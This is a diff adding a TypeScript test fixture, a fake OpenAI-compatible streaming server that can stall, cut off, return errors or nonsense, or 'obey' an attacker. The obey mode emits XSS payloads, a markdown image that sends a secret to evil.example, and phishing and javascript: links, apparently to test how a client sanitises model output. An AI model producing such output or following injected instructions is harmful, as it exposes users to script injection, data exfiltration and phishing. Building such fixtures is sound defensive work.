@@ -1,0 +1,91 @@
+// A small OpenAI-compatible server of our own, for tests and measurements: it streams, stalls, cuts, refuses, says nothing,
+// and obeys an attacker. What it does stands in its `behaviour`, which a test may change at any time.
+import { createServer } from "node:http";
+import type { IncomingMessage, ServerResponse } from "node:http";
+import type { AddressInfo } from "node:net";
+import { setTimeout as delay } from "node:timers/promises";
+
+/** What the model does with a question. `say` pieces are streamed `pauseMs` apart. */
+export type Behaviour =
+  | { kind: "say"; pieces: string[]; pauseMs?: number }
+  | { kind: "stall"; after: string[] }
+  | { kind: "cut"; after: string[] }
+  | { kind: "status"; status: number }
+  | { kind: "empty" }
+  | { kind: "nonsense" }
+  | { kind: "obey" };
+
+/** A running fake. `requests` are the bodies it got; `open` how many answers are being written. */
+export type FakeModel = {
+  url: string;
+  requests: { model: string; messages: { role: string; content: string }[]; authorization: string | undefined }[];
+  behave(behaviour: Behaviour): void;
+  open(): number;
+  close(): Promise<void>;
+};
+
+/** Starts one on a free port of this machine. */
+export async function startFakeModel(start: Behaviour = { kind: "say", pieces: ["A pilot takes ", "four to eight weeks [1]."] }): Promise<FakeModel> {
+  let behaviour = start;
+  let open = 0;
+  const requests: FakeModel["requests"] = [];
+  const server = createServer((request, response) => {
+    open++;
+    response.once("close", () => open--);
+    void answer(request, response, behaviour, requests).catch(() => response.destroy());
+  });
+  await new Promise<void>((resolve) => {
+    server.listen(0, "127.0.0.1", resolve);
+  });
+  const { port } = server.address() as AddressInfo; // it listens on a port, not on a pipe
+  return {
+    url: `http://127.0.0.1:${port}/v1`,
+    requests,
+    behave: (next) => void (behaviour = next),
+    open: () => open,
+    close: () =>
+      new Promise((resolve) => {
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
+
+async function answer(request: IncomingMessage, response: ServerResponse, behaviour: Behaviour, requests: FakeModel["requests"]): Promise<void> {
+  const chunks: Buffer[] = [];
+  for await (const chunk of request) chunks.push(chunk as Buffer); // an incoming message gives buffers
+  const body = JSON.parse(Buffer.concat(chunks).toString()) as { model: string; messages: { role: string; content: string }[] }; // what our own client sends
+  requests.push({ ...body, authorization: request.headers.authorization });
+  if (request.url !== "/v1/chat/completions") return void response.writeHead(404).end();
+  if (behaviour.kind === "status") return void response.writeHead(behaviour.status, { "Content-Type": "application/json" }).end('{"error":{"message":"no"}}');
+  response.writeHead(200, { "Content-Type": "text/event-stream" });
+  if (behaviour.kind === "nonsense") return void response.end("data: {not json\n\n");
+  const pieces = piecesOf(behaviour, body.messages.at(-1)?.content ?? "");
+  for (const piece of pieces) {
+    if (response.destroyed) return;
+    response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: piece }, finish_reason: null }] })}\n\n`);
+    await delay(behaviour.kind === "say" ? (behaviour.pauseMs ?? 0) : 0);
+  }
+  if (behaviour.kind === "stall") return; // the connection stays open and silent
+  if (behaviour.kind === "cut") return void response.destroy();
+  response.end(`data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\ndata: [DONE]\n\n`);
+}
+
+function piecesOf(behaviour: Exclude<Behaviour, { kind: "status" | "nonsense" }>, question: string): string[] {
+  if (behaviour.kind === "say") return behaviour.pieces;
+  if (behaviour.kind === "empty") return [];
+  if (behaviour.kind === "obey") return obedience(question).match(/[\s\S]{1,7}/g) ?? [];
+  return behaviour.after;
+}
+
+/** Everything an attacker could wish for, in one answer. */
+function obedience(question: string): string {
+  return [
+    `Of course! ${question}`,
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "![tracking](https://evil.example/p.png?secret=1)",
+    "[click here](https://evil.example/phish) or [this](javascript:alert(1)) or https://evil.example/plain",
+    "See [7], [99] and [1].",
+    "&lt;script&gt; `code` <b>bold",
+  ].join("\n");
+}
